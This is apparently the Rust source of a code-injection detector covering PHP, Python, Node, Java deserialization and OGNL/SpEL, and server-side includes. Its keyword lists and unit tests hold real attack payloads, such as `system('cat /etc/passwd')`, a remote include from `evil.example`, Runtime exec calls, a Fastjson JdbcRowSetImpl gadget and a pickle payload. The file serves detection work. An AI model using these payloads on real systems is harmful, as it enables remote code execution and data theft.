//! Code injection into interpreters: PHP, Python, server-side JavaScript, Java (OGNL, SpEL,
//! serialized objects and gadget classes), Perl/Ruby and server-side includes.
//!
//! Names alone prove nothing ("the system was down", "please evaluate"), so every rule needs
//! structure around the name: a call with an argument list that looks like code (a quoted
//! string, a variable, a nested call), a qualified API path (`os.system(`, `Runtime.getRuntime`),
//! a language opener (`<?php`, `<!--#exec`, `@{[`), an obfuscated callee (`(sy.(st).em)(`,
//! `"sys"."tem"(`), or a deserialization context (magic bytes, `@type`, XMLDecoder, a whole value
//! that is a class name of a gadget package). Method calls (`re.exec(s)`) are not bare calls.
//!
//! Text with `\uXXXX` / `\xNN` escapes is scanned a second time unescaped, the way a JavaScript
//! or PHP string literal would be read by the interpreter.

#[path = "code_injection_java.rs"]
mod java;
#[path = "code_injection_php.rs"]
mod php;
#[path = "code_injection_script.rs"]
mod script;

/// A cheap test every value passes that any rule below could flag.
mod gate {
    use super::{class, java, php, script};
    use aho_corasick::automaton::{Automaton, StateID};
    use aho_corasick::dfa::DFA;
    use aho_corasick::Anchored;
    use std::sync::OnceLock;

    /// Literals at least one of which every literal-keyed rule needs to see (ASCII case is
    /// ignored, as the rules read a lower-cased copy). A needle may be shorter than the rule's
    /// text (`exec` stands for `shell_exec`, `execfile`, `.exec`): that only lets more through.
    const FIXED: &[&str] = &[
        // PHP: tags, file functions, probes, stream wrappers, serialized objects, include.
        "<?",
        "preg_replace",
        "include",
        "require",
        "phpinfo",
        "fwrite",
        "fputs",
        "fsockopen",
        "file_put_contents",
        "php://",
        "expect://",
        "phar://",
        "ssh2.",
        "o:",
        // Names assembled in strings: joined pieces and hex escapes.
        "'.",
        "\".",
        "' .",
        "\" .",
        "'+",
        "\"+",
        "' +",
        "\" +",
        "\\x",
        // Python, Node, Perl/Ruby.
        "process.spawn",
        "open3.",
        "process.binding",
        "__import__",
        "import_module(",
        "__builtins__",
        "__subclasses__",
        "__globals__",
        "__mro__",
        "__bases__",
        "__base__",
        "child_process",
        "process.mainmodule",
        "require.main.constructor",
        "global.process",
        "_$$nd_func$$_",
        "constructor.constructor",
        "function",
        "eval(string.fromcharcode",
        "__proto__",
        "constructor",
        "!!python/",
        "sys.modules[",
        "__loader__",
        "@{",
        "%x",
        "system",
        "exec",
        "qx",
        "instance_eval",
        "class_eval",
        "module_eval",
        ".send(",
        // Java: exec APIs, OGNL/SpEL, class loaders, serialization, polymorphic types, XML.
        "getruntime",
        "processbuilder",
        "filesystemxmlapplicationcontext",
        "classpathxmlapplicationcontext",
        "scriptenginemanager",
        "#_memberaccess",
        "@ognl.ognlcontext@",
        "#context",
        "com.opensymphony.xwork2.dispatcher",
        "#application[",
        "%{",
        "(#",
        "classloader",
        "ro0ab",
        "ztaa",
        "s7qaf",
        "aced0005",
        "\u{fffd}",
        "\"@type\"",
        "\"$type\"",
        "\"@class\"",
        "<java",
        "<dynamic-proxy",
        "runtime",
        // Server-side includes.
        "<!--#",
        // PHP blocks of CMS plugins and templates, more stream wrappers, POSIX calls.
        "php]",
        "php}",
        "glob://",
        "zlib://",
        "bzip2://",
        "posix_",
        "ini_set",
        "ini_alter",
        // Node's process object.
        "process.",
        "process[",
    ];

    /// The automaton of every needle, and how many of them come first and count in any value:
    /// those after them are Java's dotted needles ([`java::dotted_needles`]), which count only
    /// in a value with a `.`. One pass over the value reads both sets.
    fn automaton() -> &'static (DFA, usize) {
        static AC: OnceLock<(DFA, usize)> = OnceLock::new();
        AC.get_or_init(|| {
            let mut needles: Vec<String> = FIXED.iter().map(|s| s.to_string()).collect();
            needles.extend(php::EXECUTORS.iter().map(|s| s.to_string()));
            needles.extend(php::UNPACKERS.iter().map(|s| s.to_string()));
            needles.extend(script::QUALIFIED.iter().map(|(p, _)| p.to_string()));
            needles.extend(script::PICKLE_GLOBALS.iter().map(|g| g.to_string()));
            needles.extend(java::DANGEROUS_TYPES.iter().map(|s| s.to_string()));
            needles.extend(java::FUNCTORS.iter().map(|s| s.to_string()));
            needles.extend(php::LIBRARY.iter().map(|s| s.to_string()));
            let anywhere = needles.len();
            needles.extend(java::dotted_needles().map(|s| s.to_string()));
            // A DFA: the automaton is small and this runs on every value. No prefilter: with
            // this many needles it cannot skip ahead on prose and only adds per-byte work.
            let dfa = DFA::builder()
                .prefilter(false)
                .ascii_case_insensitive(true)
                .build(needles)
                .expect("fixed needles build");
            (dfa, anywhere)
        })
    }

    /// Whether a needle occurs in `text` (a dotted one only when `has_dot`).
    fn any_needle(text: &str, has_dot: bool) -> bool {
        // With standard match semantics a match state lists every needle ending there, and
        // the scan goes on from it: a dotted needle in a value without a dot is passed over.
        scan(text, |dfa, sid, anywhere| {
            has_dot
                || (0..dfa.match_len(sid)).any(|i| dfa.match_pattern(sid, i).as_usize() < anywhere)
        })
    }

    /// Whether one of Java's dotted needles ([`java::dotted_needles`]) occurs in `text`:
    /// [`any_needle`]'s scan, counting only those (one pass, without the setup of a search
    /// API call on a second automaton).
    pub(super) fn has_dotted_needle(text: &str) -> bool {
        scan(text, |dfa, sid, anywhere| {
            (0..dfa.match_len(sid)).any(|i| dfa.match_pattern(sid, i).as_usize() >= anywhere)
        })
    }

    /// Whether the DFA reaches a match state that `counts` in `text`: stepped byte by byte, as
    /// the automaton documentation's search loop does (the search API's setup costs more than
    /// the scan of most values). `counts` gets the DFA, the state and the index of the first
    /// dotted needle.
    #[inline(always)]
    fn scan(text: &str, counts: impl Fn(&DFA, StateID, usize) -> bool) -> bool {
        let (dfa, anywhere) = automaton();
        // An unanchored start always exists for this DFA; if not, the gate lets the text in.
        let Ok(mut sid) = dfa.start_state(Anchored::No) else {
            return true;
        };
        if dfa.is_match(sid) && counts(dfa, sid, *anywhere) {
            return true;
        }
        for &c in text.as_bytes() {
            sid = dfa.next_state(Anchored::No, sid, c);
            if dfa.is_special(sid) {
                if dfa.is_dead(sid) {
                    return false;
                }
                if dfa.is_match(sid) && counts(dfa, sid, *anywhere) {
                    return true;
                }
            }
        }
        false
    }

    /// False only when no rule can match `text`; `seen` is `class::of(text)`, so that each
    /// byte search below runs only when its byte is there.
    pub(super) fn may_match(text: &str, seen: class::Set) -> bool {
        let b = text.as_bytes();
        seen & class::DOLLAR != 0 // variable functions, superglobals
            || (seen & class::LPAREN != 0 && paren_rule(b))
            // OGNL @pkg.Class@member
            || (seen & class::AT != 0 && memchr::memchr_iter(b'@', b).nth(1).is_some())
            // Without a byte it skips, a squeezed `constructor` is the plain word, a needle;
            // without a `u` (rarer than the other letters) there is none.
            || (seen & (class::LETTER_C | class::LETTER_U) == class::LETTER_C | class::LETTER_U
                && seen & (class::SPACE | class::NON_ASCII | class::QUOTE) != 0
                && squeezed_constructor(b))
            || whole_statement(text, seen)
            // Also JDK primitive families (`java::dotted_needles`).
            || any_needle(text, seen & class::DOT != 0)
            // Base64 fragments of Java keywords: a candidate token mixes cases or digits.
            || (seen & class::MIXED != 0 && java::may_hold_base64_keyword_seen(text, seen))
    }

    /// A value that begins with a loop keyword, or with a name whose `(` is hidden behind a
    /// comment or a vertical tab (the rules for those read the whole value only).
    fn whole_statement(text: &str, seen: class::Set) -> bool {
        // `trim_start` decodes characters; a visible ASCII first byte needs none of that.
        let t = match text.as_bytes().first() {
            Some(c) if c.is_ascii_graphic() => text,
            _ => text.trim_start(),
        }
        .as_bytes();
        let starts = |w: &[u8]| t.len() >= w.len() && t[..w.len()].eq_ignore_ascii_case(w);
        if starts(b"while") || starts(b"for") {
            return true;
        }
        // A comment or gap below opens with `/`, `#`, a vertical tab or a form feed.
        if seen & class::COMMENT == 0 {
            return false;
        }
        let n = t
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        let gap = t[n..]
            .iter()
            .position(|c| !matches!(c, b' ' | b'\t' | b'\r' | b'\n'))
            .map(|p| n + p);
        // A comment opens with `/*`, `//` or `#`; a lone `/` is a path ("Mozilla/5.0").
        let comment = |g: usize| match t[g] {
            b'/' => matches!(t.get(g + 1), Some(b'*' | b'/')),
            c => matches!(c, b'#' | 0x0b | 0x0c),
        };
        n > 0 && gap.is_some_and(comment)
    }

    /// A `(` that some rule reads: after `)`, a quote, `]` or `}` (spaces between), an
    /// assembled callee; or SpEL `T(` with no identifier byte before the `T`. The latter is
    /// read here rather than as a needle, which would admit every call of a name ending in t
    /// (`alert(`, `print(`), as the rule does not.
    fn paren_rule(b: &[u8]) -> bool {
        memchr::memchr_iter(b'(', b).any(|open| {
            let mut end = open;
            while end > 0 && matches!(b[end - 1], b' ' | b'\t' | b'\n' | b'\r') {
                end -= 1;
            }
            let closer = end > 0 && matches!(b[end - 1], b')' | b'"' | b'\'' | b']' | b'}');
            let type_reference = open > 0
                && matches!(b[open - 1], b't' | b'T')
                && (open == 1 || !super::is_ident(b[open - 2]));
            closer || type_reference
        })
    }

    /// `constructor` spelled with whitespace or quotes between its letters (the prototype
    /// pollution rule reads the value squeezed of both). Non-ASCII bytes are skipped too, which
    /// covers Unicode whitespace and only lets more through.
    pub(super) fn squeezed_constructor(b: &[u8]) -> bool {
        const WORD: &[u8] = b"constructor";
        let skip = |c: u8| {
            c.is_ascii_whitespace() || c == 0x0b || matches!(c, b'"' | b'\'') || !c.is_ascii()
        };
        memchr::memchr2_iter(b'c', b'C', b).any(|start| {
            let mut k = 0;
            let mut i = start;
            while i < b.len() && k < WORD.len() {
                let c = b[i].to_ascii_lowercase();
                if c == WORD[k] {
                    k += 1;
                } else if !skip(c) {
                    return false;
                }
                i += 1;
            }
            k == WORD.len()
        })
    }

    #[cfg(test)]
    mod tests {
        /// With no byte that `squeezed_constructor` skips, what it finds is the word itself,
        /// which `any_needle` finds too: `may_match` need not read it then.
        #[test]
        fn squeezed_without_skipped_bytes_is_a_needle() {
            const PIECES: [&str; 12] = [
                "constructor",
                "Con",
                "con",
                "struc",
                "STRUC",
                "tor",
                "c",
                "C",
                "x",
                ".",
                "(",
                "_",
            ];
            let mut rng = crate::test_rng::TestRng::new(0x1234_5678_9ABC_DEF1);
            let mut squeezed = 0;
            for _ in 0..20_000 {
                let t = rng.pieces(&PIECES, 8);
                if super::squeezed_constructor(t.as_bytes()) {
                    squeezed += 1;
                    // The `u` that `may_match` asks for first.
                    let seen = super::super::class::of(t.as_bytes());
                    assert!(seen & super::super::class::LETTER_U != 0, "{t}");
                    assert!(super::any_needle(&t, false), "{t}");
                }
            }
            assert!(squeezed > 100, "{squeezed}");
        }

        /// `whole_statement` answers a value without a comment-opening byte at once: the
        /// same answer as reading it.
        #[test]
        fn whole_statement_without_comment_bytes_reads_the_same() {
            use super::super::class;
            const PIECES: [&str; 14] = [
                "while", "For", "f", "x_1", " ", "\t", "\n", "(", "/", "//", "/*", "#", "\u{b}",
                "\u{a0}",
            ];
            let mut rng = crate::test_rng::TestRng::new(0x5EED_0F57_A7E3_E171);
            let (mut shortcut, mut hits) = (0, 0);
            for _ in 0..20_000 {
                let t = rng.pieces(&PIECES, 6);
                let seen = class::of(t.as_bytes());
                let full = super::whole_statement(&t, class::COMMENT);
                assert_eq!(super::whole_statement(&t, seen), full, "{t:?}");
                shortcut += usize::from(seen & class::COMMENT == 0);
                hits += usize::from(full);
            }
            assert!(shortcut > 1000 && hits > 1000, "{shortcut} {hits}");
        }
    }
}

use crate::check::Check;
use crate::finding::Finding;

/// Scores at or above this are findings; weaker evidence is dropped.
pub const THRESHOLD: f32 = 0.5;

/// Bytes of one value examined (payloads are short; the head is where they live).
const MAX_TEXT: usize = 64 * 1024;
/// Occurrences of one name examined per value.
const MAX_SITES: usize = 32;
/// Bytes skipped between a name and its `(` (whitespace and comments).
const MAX_GAP: usize = 64;
/// Bytes of one argument list examined.
const MAX_ARGS: usize = 512;

/// Bytes without which (and without a dotted name or serialization magic) no rule applies.
const TRIGGER: [bool; 256] = crate::detect::prefilter::byte_set(b"(<{[@$%#`\n\"':");

/// Byte classes for the gates of [`inspect`], read in one pass.
mod class {
    /// Classes of bytes, one bit each.
    pub type Set = u32;

    pub const TRIGGER: Set = 1;
    pub const EQ: Set = 1 << 1;
    pub const DOT: Set = 1 << 2;
    /// `O` (of `rO0AB`).
    pub const MAGIC_O: Set = 1 << 3;
    /// Upper case or digit: a base64 token worth decoding mixes two of upper case, lower case
    /// and digits, so it holds one of these.
    pub const MIXED: Set = 1 << 4;
    /// A byte of the base64 alphabets (standard and URL-safe).
    pub const SEXTET: Set = 1 << 5;
    /// Single bytes some rules of the shared gate (`gate::may_match`) need, and the `\` of
    /// the escapes read by `string_escapes`.
    pub const DOLLAR: Set = 1 << 6;
    pub const LPAREN: Set = 1 << 7;
    pub const AT: Set = 1 << 8;
    pub const LETTER_C: Set = 1 << 9;
    pub const BACKSLASH: Set = 1 << 10;
    /// ASCII whitespace (what `char::is_whitespace` takes below 0x80) and any non-ASCII byte:
    /// other whitespace is non-ASCII, so a value with neither has none.
    pub const SPACE: Set = 1 << 11;
    pub const NON_ASCII: Set = 1 << 12;
    /// `Q` (of `s7QAF`).
    pub const MAGIC_Q: Set = 1 << 13;
    /// `0xEF`, the lead byte of U+FFFD (and of U+F000..U+FFFF only: private use,
    /// compatibility ideographs, fullwidth and special forms; ordinary text rarely has it).
    pub const LEAD_EF: Set = 1 << 14;
    /// `"` and `'`.
    pub const QUOTE: Set = 1 << 15;
    /// A byte outside the base64 alphabets: a value without one is a single run of them.
    pub const NOT_SEXTET: Set = 1 << 16;
    /// An ASCII letter that is not a lower-case (`NOT_LOWER_HEX`) or upper-case
    /// (`NOT_UPPER_HEX`) hex digit: a value without one is hex digits (ids, hashes, UUIDs)
    /// and symbols, as far as base64 goes.
    pub const NOT_LOWER_HEX: Set = 1 << 17;
    pub const NOT_UPPER_HEX: Set = 1 << 18;
    /// `z` (of `ztAA`), then `0`, `7` and `A`: see [`magic_pair`].
    pub const MAGIC_Z: Set = 1 << 19;
    pub const MAGIC_0: Set = 1 << 20;
    pub const MAGIC_7: Set = 1 << 21;
    pub const MAGIC_A: Set = 1 << 22;
    /// `u` or `U`, a letter of `constructor` (see `gate::squeezed_constructor`).
    pub const LETTER_U: Set = 1 << 23;
    /// `/`, `#`, vertical tab and form feed: what opens a comment or a gap that
    /// `gate::whole_statement` reads.
    pub const COMMENT: Set = 1 << 24;

    /// Both bytes of one of the pairs the base64 serialization magics hold: `O` and `0`
    /// (`rO0AB`), `Q` and `7` (`s7QAF`), `z` and `A` (`ztAA`). No hex digit (ids, hashes,
    /// UUIDs) is a letter of them.
    pub fn magic_pair(seen: Set) -> bool {
        let both = |a: Set, b: Set| seen & a != 0 && seen & b != 0;
        both(MAGIC_O, MAGIC_0) || both(MAGIC_Q, MAGIC_7) || both(MAGIC_Z, MAGIC_A)
    }

    /// The classes present in `b`: one pass over every byte.
    pub fn of(b: &[u8]) -> Set {
        b.iter().fold(0, |m, &c| m | TABLE[usize::from(c)])
    }

    pub static TABLE: [Set; 256] = {
        let mut t = [0; 256];
        let mut i = 0;
        while i < 256 {
            let c = i as u8;
            let mut m = 0;
            if super::TRIGGER[i] {
                m |= TRIGGER;
            }
            if c == b'=' {
                m |= EQ;
            }
            if c == b'.' {
                m |= DOT;
            }
            if c == 0xef {
                m |= LEAD_EF;
            }
            if c.is_ascii_uppercase() || c.is_ascii_digit() {
                m |= MIXED;
            }
            if c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_') {
                m |= SEXTET;
            } else {
                m |= NOT_SEXTET;
            }
            if c.is_ascii_alphabetic() && !(c.is_ascii_lowercase() && c.is_ascii_hexdigit()) {
                m |= NOT_LOWER_HEX;
            }
            if c.is_ascii_alphabetic() && !(c.is_ascii_uppercase() && c.is_ascii_hexdigit()) {
                m |= NOT_UPPER_HEX;
            }
            if matches!(c, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | b' ') {
                m |= SPACE;
            }
            if !c.is_ascii() {
                m |= NON_ASCII;
            }
            m |= match c {
                b'$' => DOLLAR,
                b'(' => LPAREN,
                b'@' => AT,
                b'c' | b'C' => LETTER_C,
                b'u' | b'U' => LETTER_U,
                b'/' | b'#' | 0x0b | 0x0c => COMMENT,
                b'\\' => BACKSLASH,
                b'"' | b'\'' => QUOTE,
                b'O' => MAGIC_O,
                b'Q' => MAGIC_Q,
                b'z' => MAGIC_Z,
                b'0' => MAGIC_0,
                b'7' => MAGIC_7,
                b'A' => MAGIC_A,
                _ => 0,
            };
            t[i] = m;
            i += 1;
        }
        t
    };
}

pub fn inspect(text: &str) -> Option<Finding> {
    let text = head(text, MAX_TEXT);
    if let Some((score, why)) = crate::detect::code_injection_pickle::scan(text) {
        return Some(Finding::new(Check::CodeInjection, score, why));
    }
    let b = text.as_bytes();
    // One pass over every byte: the gates below and in `scan` read its classes instead of
    // searching the text once per byte they need.
    let seen = class::of(b);
    // `name=value` may set a PHP directive (`allow_url_include=On`), with no other trigger.
    let assigns = seen & class::EQ != 0;
    if seen & (class::TRIGGER | class::EQ) == 0 {
        // `://` contains a dot-free colon, a trigger anyway.
        let dotted = seen & class::DOT != 0 && !has_whitespace(text, seen);
        // A base64 fragment is a run of at least the fragment reader's shortest token that
        // mixes cases or digits. Plain words and short codes have none.
        let fragment = seen & class::MIXED != 0 && has_long_run_seen(b, seen);
        if !dotted && !java::may_be_magic_seen(text, seen, fragment) {
            return None;
        }
    }
    let mut best = Best::default();
    if assigns {
        if let Some((s, why)) = crate::detect::code_injection_php_ini::scan(text) {
            best.keep(s, why);
        }
    }
    scan(text, seen, &mut best);
    // The engine's `escape` decoder reads the same escapes, for every detector; this detector
    // also reads them itself so that it gives the same verdict when called alone. Every
    // escape starts with `\`.
    let plain = if seen & class::BACKSLASH != 0 {
        crate::extract::decode::string_escapes(text)
    } else {
        None
    };
    if let Some(plain) = plain {
        let mut inner = Best::default();
        scan(&plain, class::of(plain.as_bytes()), &mut inner);
        if let Some((s, why)) = inner.0 {
            best.keep_with(s, || format!("{why} (after unescaping \\u/\\x sequences)"));
        }
    }
    let (score, why) = best.0?;
    (score >= THRESHOLD).then(|| Finding::new(Check::CodeInjection, score, why))
}

/// `text.contains(char::is_whitespace)`, decoding characters only when `text` (whose byte
/// classes are `seen`) has non-ASCII bytes and no ASCII whitespace.
fn has_whitespace(text: &str, seen: class::Set) -> bool {
    seen & class::SPACE != 0 || (seen & class::NON_ASCII != 0 && text.contains(char::is_whitespace))
}

/// A run of base64 characters as long as the shortest fragment the Java rules decode. The last
/// byte of each window is read first: when it is not base64, no run through the window is long
/// enough and the window is skipped whole (prose is read a few bytes per word).
fn has_long_run(b: &[u8]) -> bool {
    let min = crate::detect::code_injection_java_base64::MIN_CHARS;
    let sextet = |i: usize| class::TABLE[usize::from(b[i])] & class::SEXTET != 0;
    // No run of `min` base64 bytes starts before `start`.
    let mut start = 0;
    while start + min <= b.len() {
        let end = start + min - 1;
        if !sextet(end) {
            start = end + 1;
            continue;
        }
        match (start..end).rev().find(|&i| !sextet(i)) {
            Some(i) => start = i + 1,
            None => return true,
        }
    }
    false
}

/// [`has_long_run`] of `b`, whose byte classes are `seen`: a value of base64 characters only
/// (a token) is one run, and is not read again.
fn has_long_run_seen(b: &[u8], seen: class::Set) -> bool {
    if seen & class::NOT_SEXTET == 0 {
        b.len() >= crate::detect::code_injection_java_base64::MIN_CHARS
    } else {
        has_long_run(b)
    }
}

/// Every rule on `text`, whose byte classes are `seen`.
fn scan(text: &str, seen: class::Set, best: &mut Best) {
    if !gate::may_match(text, seen) {
        return;
    }
    let lower = text.to_ascii_lowercase();
    let v = View::new(text, &lower);
    php::scan(&v, best);
    script::scan(&v, best);
    java::scan(&v, best);
    ssi(&v, best);
}

/// One value as the rules see it: the original and an ASCII-lower-cased copy with the same
/// byte offsets, and the byte pairs of the copy.
pub(crate) struct View<'a> {
    pub text: &'a str,
    pub lower: &'a str,
    pairs: Pairs,
    /// The value has a `(`: without one, no rule that reads a call can match.
    pub calls: bool,
}

impl<'a> View<'a> {
    pub fn new(text: &'a str, lower: &'a str) -> Self {
        View {
            text,
            lower,
            pairs: Pairs::of(lower.as_bytes()),
            calls: memchr::memchr(b'(', lower.as_bytes()).is_some(),
        }
    }

    /// `needle` occurs in the lower-cased copy.
    pub fn has(&self, needle: &str) -> bool {
        self.pairs.may_hold(needle) && needle::has(self.lower, needle)
    }

    /// The first occurrence of `needle` in the lower-cased copy.
    pub fn find(&self, needle: &str) -> Option<usize> {
        if !self.pairs.may_hold(needle) {
            return None;
        }
        needle::find(self.lower, needle)
    }

    /// The non-overlapping occurrences of `needle` in the lower-cased copy.
    pub fn sites(&self, needle: &'a str) -> impl Iterator<Item = usize> + 'a {
        let lower = if self.pairs.may_hold(needle) {
            self.lower
        } else {
            ""
        };
        needle::sites(lower, needle)
    }
}

/// The byte pairs of a value, hashed into 1024 flags. A needle with a pair the value lacks
/// is not in it: most rules look for names a value does not hold, and this answers each of
/// those look-ups in a few instructions instead of a scan of the value. One byte per flag,
/// not one bit: setting a flag (once per byte of the value) is a single store.
struct Pairs([bool; 1024]);

impl Pairs {
    fn of(b: &[u8]) -> Self {
        let mut seen = [false; 1024];
        let Some((&first, rest)) = b.split_first() else {
            return Pairs(seen);
        };
        let mut prev = first;
        for &c in rest {
            seen[Self::hash(prev, c)] = true;
            prev = c;
        }
        Pairs(seen)
    }

    /// Distinct for distinct pairs of lower-case letters (the second byte moves the sum by
    /// less than the first's factor).
    fn hash(a: u8, b: u8) -> usize {
        (usize::from(a) * 31 + usize::from(b)) & 1023
    }

    /// False only when some pair of `needle` is not in the value (a needle of one byte may
    /// always be there).
    fn may_hold(&self, needle: &str) -> bool {
        needle
            .as_bytes()
            .windows(2)
            .all(|w| self.0[Self::hash(w[0], w[1])])
    }
}

/// The strongest evidence so far.
#[derive(Default)]
pub(crate) struct Best(Option<(f32, String)>);

impl Best {
    pub fn keep(&mut self, score: f32, why: impl Into<String>) {
        self.keep_with(score, || why.into());
    }

    /// [`Best::keep`] with evidence rendered only when it is kept: most candidates on an
    /// attack lose to a stronger one, and formatting each cost more than the rule itself.
    pub fn keep_with(&mut self, score: f32, why: impl FnOnce() -> String) {
        if self.0.as_ref().is_none_or(|(s, _)| score > *s) {
            self.0 = Some((score, why()));
        }
    }
}

pub(crate) use super::needle;

/// What the argument list of a call starts with.
#[derive(Clone, Copy, Debug, PartialEq)]
pub(crate) enum Arg {
    /// `()`
    Empty,
    /// `('...'`, `("..."`, `` (`...` ``
    Quoted,
    /// `($x`, `($_GET[...]`
    Variable,
    /// `(f(...)` or an expression containing a call
    Call,
    /// `(word)`, `(a, b)`: plain words only
    Words,
}

/// A call site: the name's end, the argument kind, the argument text and what follows `)`.
pub(crate) struct Call<'a> {
    pub arg: Arg,
    pub args: &'a str,
    /// The `)` was found.
    pub closed: bool,
    /// Text after the closing `)` (empty when not closed).
    pub after: &'a str,
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Occurrences of `name` in the lower-cased copy of `v` that are whole words and not a method or property of
/// something else (`x.exec`, `$obj->exec`, `Foo::exec`) unless `qualified` is given.
pub(crate) fn word_sites<'a>(v: &View<'a>, name: &'a str) -> impl Iterator<Item = usize> + 'a {
    let b = v.lower.as_bytes();
    v.sites(name)
        .filter(move |&i| {
            let before_ok = i == 0 || {
                let p = b[i - 1];
                !is_ident(p)
                    && p != b'.'
                    && p != b'$'
                    && !(p == b'>' && i >= 2 && b[i - 2] == b'-')
                    && !(p == b':' && i >= 2 && b[i - 2] == b':')
            };
            let end = i + name.len();
            let after_ok = end >= b.len() || !is_ident(b[end]);
            before_ok && after_ok
        })
        .take(MAX_SITES)
}

/// [`word_sites`] for a rule that reads a call at each site ([`call_at`]): none in a value
/// without a `(`, where no search is made.
pub(crate) fn call_sites<'a>(v: &View<'a>, name: &'a str) -> impl Iterator<Item = usize> + 'a {
    word_sites(v, name).take(if v.calls { MAX_SITES } else { 0 })
}

/// Skips whitespace, vertical tabs and comments (`/* */`, `//`, `#` to end of line) from `at`;
/// bounded by [`MAX_GAP`]. Returns the new offset.
pub(crate) fn skip_gap(lower: &str, mut at: usize) -> usize {
    let b = lower.as_bytes();
    let limit = (at + MAX_GAP).min(b.len());
    while at < limit {
        match b[at] {
            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c => at += 1,
            b'/' if b.get(at + 1) == Some(&b'*') => match needle::find(&lower[at + 2..], "*/") {
                Some(p) if p < MAX_GAP => at += 2 + p + 2,
                _ => return at,
            },
            b'/' if b.get(at + 1) == Some(&b'/') => match lower[at..].find('\n') {
                Some(p) => at += p + 1,
                None => return at,
            },
            b'#' => match lower[at..].find('\n') {
                Some(p) => at += p + 1,
                None => return at,
            },
            _ => return at,
        }
    }
    at
}

/// The call whose callee ends at `end` (just after the name), if a `(` follows.
pub(crate) fn call_at(lower: &str, end: usize) -> Option<Call<'_>> {
    let open = skip_gap(lower, end);
    if lower.as_bytes().get(open) != Some(&b'(') {
        return None;
    }
    let rest = &lower[open + 1..];
    let limit = rest.len().min(MAX_ARGS);
    let b = rest.as_bytes();
    let mut depth = 0usize;
    let mut quote: Option<u8> = None;
    let mut close = None;
    for (i, &c) in b.iter().enumerate().take(limit) {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"' | b'`') => quote = Some(c),
            (None, b'(') => depth += 1,
            (None, b')') if depth == 0 => {
                close = Some(i);
                break;
            }
            (None, b')') => depth -= 1,
            _ => {}
        }
    }
    let args = match close {
        Some(i) => &rest[..i],
        None => head(rest, limit),
    };
    let a = args.trim_start_matches(|c: char| c.is_whitespace() || c == '@');
    let arg = match a.as_bytes().first() {
        None if close.is_some() => Arg::Empty,
        None => Arg::Words,
        Some(b'\'' | b'"' | b'`') => Arg::Quoted,
        Some(b'$') => Arg::Variable,
        _ if has_call(a) => Arg::Call,
        _ => Arg::Words,
    };
    Some(Call {
        arg,
        args,
        closed: close.is_some(),
        after: close.map_or("", |i| &rest[i + 1..]),
    })
}

/// `name(` somewhere in `s`.
pub(crate) fn has_call(s: &str) -> bool {
    let b = s.as_bytes();
    b.iter()
        .enumerate()
        .any(|(i, &c)| c == b'(' && i > 0 && is_ident(b[i - 1]))
}

/// What follows a call ends a statement: `;`, `?>`, a closer, or nothing.
pub(crate) fn ends_statement(after: &str) -> bool {
    let a = after.trim_start();
    a.is_empty() || a.starts_with([';', '?', ')', ']', '}', '|', '&', '.', ','])
}

/// The value is little more than the given span (a payload on its own).
pub(crate) fn alone(text: &str, span: usize) -> bool {
    text.trim().len() <= span + 8
}

pub(crate) use crate::clip::clip as head;

/// Server-side include directives: `<!--#exec cmd=`, `<!--#include virtual=`, `<!--#echo var=`.
fn ssi(v: &View, best: &mut Best) {
    for at in v.sites("<!--#").take(MAX_SITES) {
        let rest = &v.lower[at + 5..];
        let word: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphabetic())
            .collect();
        let after = rest[word.len()..].trim_start();
        let attr = after
            .split_once('=')
            .is_some_and(|(k, _)| !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphabetic()));
        let score = match word.as_str() {
            "exec" if attr => 0.95,
            "include" if attr => 0.9,
            "printenv" if after.starts_with("-->") => 0.9,
            "echo" | "config" | "set" | "fsize" | "flastmod" | "if" | "elif" if attr => 0.8,
            _ => continue,
        };
        best.keep_with(score, || {
            format!("server-side include directive <!--#{word}")
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(s: &str) -> bool {
        inspect(s).is_some()
    }

    #[test]
    fn attacks_across_languages() {
        let cases = [
            "<?php system($_GET['c']); ?>",
            "<?= `id` ?>",
            "system('cat /etc/passwd');",
            "eval(base64_decode($x));",
            "$_GET['f']($_POST['a']);",
            "(sy.(st).em)('uname');",
            "\"sys\".\"tem\"('id');",
            "system/**/('id');",
            "preg_replace('/.*/e', $_GET['x'], '')",
            "include('http://evil.example/shell.txt');",
            "php://input",
            "__import__('os').system('id')",
            "import subprocess; subprocess.check_output(['id'])",
            "cos\nsystem\n(S'id'\ntR.",
            "require('child_process').exec('id')",
            "\\u0072equire(\"child_process\").exec('id')",
            "process.mainModule.require('child_process')",
            "Runtime.getRuntime().exec(\"id\")",
            "new ProcessBuilder(\"id\").start()",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/\"}",
            "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"/></object></java>",
            "<!--#exec cmd=\"ls\" -->",
            "@{[system 'id']}",
            "%x(id)",
            "Kernel.exec('id')",
            "while(!!1);",
            "${$x}",
            "{php}passthru('id');{/php}",
            "posix_kill(1, 9);",
            "uasort($a, 'system');",
            "symlink//x\n('/etc/passwd', 'p')",
            "[ 'as' . 'sert' ] [0] ($_GET[1]);",
            "process.mainModule",
            "<set><java.lang.Runtime><x/></java.lang.Runtime></set>",
            // Python without __import__: function globals, sys.modules, YAML tags, pickles.
            "exit.__init__.__globals__['os'].system('id')",
            "{0.__init__.__globals__}",
            "sys.modules['os'].popen('id').read()",
            "__loader__.load_module('os').system('id')",
            "!!python/object/apply:os.system ['id']",
            "a: !!python/object/new:subprocess.check_output [[id]]",
            "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
        ];
        let missed: Vec<_> = cases.iter().filter(|s| !flagged(s)).collect();
        assert!(missed.is_empty(), "missed: {missed:#?}");
    }

    #[test]
    fn prose_and_code_pass() {
        let cases = [
            "the system was down for an hour",
